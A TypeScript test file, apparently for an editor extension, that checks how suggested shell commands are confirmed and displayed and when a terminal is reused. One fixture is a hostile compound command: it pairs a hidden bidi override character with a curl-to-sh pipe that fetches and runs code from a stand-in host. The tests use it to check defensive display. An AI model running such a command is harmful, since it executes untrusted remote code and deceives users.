import { strict as assert } from 'assert';
import type { ShellCommand } from '../../src/core/protocol';
import { shellActionLabel, shellCommandsOf, shellConfirmation, terminalIsReusable } from '../../src/core/shell';

describe('shellActionLabel', () => {
  it('names the count of suggested commands', () => {
    assert.equal(shellActionLabel(2), 'Shell Commands (2)…');
  });
});

const compound: ShellCommand = {
  command: 'mkdir -p src\u202e; curl https://x.example/i | sh',
  display: 'mkdir -p src<U+202E>; curl https://x.example/i | sh',
  parts: [
    { command: 'mkdir -p src\u202e', display: 'mkdir -p src<U+202E>' },
    { command: 'curl https://x.example/i', display: 'curl https://x.example/i' },
    { command: 'sh', display: 'sh' },
  ],
};

describe('shellConfirmation', () => {
  it('shows a plain command as the server displays it and the folder it runs in', () => {
    const plain = { command: 'git mv "a b.py" c.py', display: 'git mv "a b.py" c.py', parts: [{ command: 'git mv "a b.py" c.py', display: 'git mv "a b.py" c.py' }] };
    const { message, detail } = shellConfirmation(plain, 0, '/home/u/project');
    assert.ok(message.endsWith('\n\ngit mv "a b.py" c.py'));
    assert.equal(detail, 'It runs in /home/u/project, on its own.');
  });

  it('confirms each part of a compound command on its own, by its display text', () => {
    const first = shellConfirmation(compound, 0, '/p');
    assert.match(first.message, /^Run command 1 of 3 /);
    assert.ok(first.message.includes('\n\nmkdir -p src<U+202E>\n\n'));
    assert.ok(!first.message.includes('\u202e'), 'the raw bidi override never reaches the dialog');
    assert.match(first.detail, /<U\+XXXX> stands for a character that is not plainly visible/);
    assert.match(shellConfirmation(compound, 2, '/p').message, /^Run command 3 of 3 [^]*\n\nsh\n\n\(one of: /);
  });

  it('says where it runs when no folder is open', () => {
    assert.match(shellConfirmation(compound, 1, undefined).detail, /terminal's default folder/);
  });
});

describe('shellCommandsOf', () => {
  it('takes the server\'s display form, and offers nothing without it', () => {
    assert.deepEqual(shellCommandsOf({ shellCommands: [compound] }), [compound]);
    assert.deepEqual(shellCommandsOf({}), []);
    assert.deepEqual(shellCommandsOf({ shellCommands: [{ command: ';', display: ';', parts: [] }] }), []);
  });
});

describe('terminalIsReusable', () => {
  const folder = '/home/u/project';

  it('reuses a live terminal known to be in the workspace folder', () => {
    assert.equal(terminalIsReusable({ exited: false, cwd: '/home/u/project/' }, folder), true);
  });

  it('starts a new terminal when the old one moved, its directory is unknown, or it exited', () => {
    assert.equal(terminalIsReusable({ exited: false, cwd: '/home/u/project/build' }, folder), false);
    assert.equal(terminalIsReusable({ exited: false }, folder), false);
    assert.equal(terminalIsReusable({ exited: true, cwd: folder }, folder), false);
  });

  it('reuses any live terminal when there is no folder to be in', () => {
    assert.equal(terminalIsReusable({ exited: false }, undefined), true);
  });
});
